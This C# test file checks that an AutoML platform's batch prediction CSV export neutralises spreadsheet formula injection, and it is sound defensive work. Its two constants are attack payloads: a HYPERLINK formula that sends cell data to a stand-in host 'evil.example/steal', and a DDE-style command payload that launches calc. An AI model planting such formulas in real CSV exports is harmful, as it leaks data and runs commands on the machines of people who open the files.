using System.Net;
using System.Net.Http.Json;
using System.Text;
using AutoMl.Api.Tests.Jobs;
using AutoMl.Api.Tests.Support;
using AutoMl.Testing;

namespace AutoMl.Api.Tests.Models;

public sealed class BatchPredictionCsvTests(TrainingPlatformFactory platform) : IClassFixture<TrainingPlatformFactory>
{
    private const string Link = "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Click for your results\")";
    private const string Sum = "@SUM(1+1)*cmd|' /C calc'!A0";

    [Fact]
    public async Task a_formula_in_a_batch_prediction_csv_is_neutralised()
    {
        var user = await platform.SignUpAsync();
        // Pima with its labels replaced by formulas: the model predicts them, and the export writes them.
        var lines = await File.ReadAllLinesAsync(TestData.Path("ml/pima_diabetes.csv"));
        var csv = new StringBuilder(lines[0]).Append('\n');
        foreach (var line in lines.Skip(1))
        {
            var label = line[(line.LastIndexOf(',') + 1)..].Trim('"') == "pos" ? Link : Sum;
            csv.Append(line[..(line.LastIndexOf(',') + 1)]).Append('"').Append(label.Replace("\"", "\"\"", StringComparison.Ordinal)).Append("\"\n");
        }
        var dataset = await user.Http.UploadAsync(Encoding.UTF8.GetBytes(csv.ToString()), "formulas.csv");
        Assert.Equal("ready", (await user.Http.SettledAsync(dataset)).GetProperty("status").GetString());
        var trained = await (await user.Http.SubmitAsync(dataset, "diabetes", 10)).JsonAsync(HttpStatusCode.Accepted);
        var job = await user.Http.JobUntilAsync(trained.GetProperty("id").GetString()!, j => j.Ended(), 120);
        Assert.Equal("succeeded", job.Status());

        var batch = await (await user.Http.PostAsJsonAsync($"/api/v1/models/{job.GetProperty("modelId").GetString()}/predictions", new { datasetId = dataset }))
            .JsonAsync(HttpStatusCode.Accepted);
        var batchJob = await user.Http.JobUntilAsync(batch.GetProperty("id").GetString()!, j => j.Ended());
        Assert.Equal("succeeded", batchJob.Status());
        var export = await (await user.Http.GetAsync($"/api/v1/models/predictions/{batchJob.GetProperty("id").GetString()}/result")).Content.ReadAsStringAsync();

        var rows = ParseCsv(export);
        Assert.Equal(769, rows.Count);
        var cells = rows.SelectMany(r => r).ToList();
        Assert.All(cells, c => Assert.False(c.Length > 0 && c[0] is '=' or '+' or '-' or '@', $"a cell a spreadsheet would run: {c}"));
        Assert.Contains("'" + Link, cells);
        Assert.Contains("'" + Sum, cells);
        Assert.All(rows.Skip(1), r => Assert.All(r.Skip(1), p => Assert.InRange(double.Parse(p, System.Globalization.CultureInfo.InvariantCulture), 0, 1)));
    }

    /// <summary>RFC 4180, as a spreadsheet reads it.</summary>
    private static List<List<string>> ParseCsv(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(cell.ToString());
                cell.Clear();
            }
            else if (c == '\n')
            {
                row.Add(cell.ToString());
                cell.Clear();
                rows.Add(row);
                row = [];
            }
            else if (c != '\r')
            {
                cell.Append(c);
            }
        }
        return rows;
    }
}
